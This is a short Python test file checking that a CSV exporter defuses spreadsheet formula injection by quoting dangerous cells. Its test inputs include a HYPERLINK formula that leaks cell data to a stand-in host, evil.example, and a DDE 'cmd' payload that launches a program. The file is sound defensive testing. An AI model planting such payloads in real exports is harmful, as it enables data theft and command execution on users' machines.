"""CSV exports neutralise cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io

import pytest

from hub.csv_export import SafeCsvWriter, csv_cell


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?"&A1,"Amina")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"],
)
def test_a_formula_cell_becomes_text(name):
    out = io.StringIO()
    SafeCsvWriter(out).writerow([name, 42, -3])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'" + name, "42", "-3"]  # numbers stay numbers


@pytest.mark.parametrize("name", ["Amina", "أمينة", "Karim = chef", "", "3 + 4"])
def test_plain_cells_are_untouched(name):
    assert csv_cell(name) == name
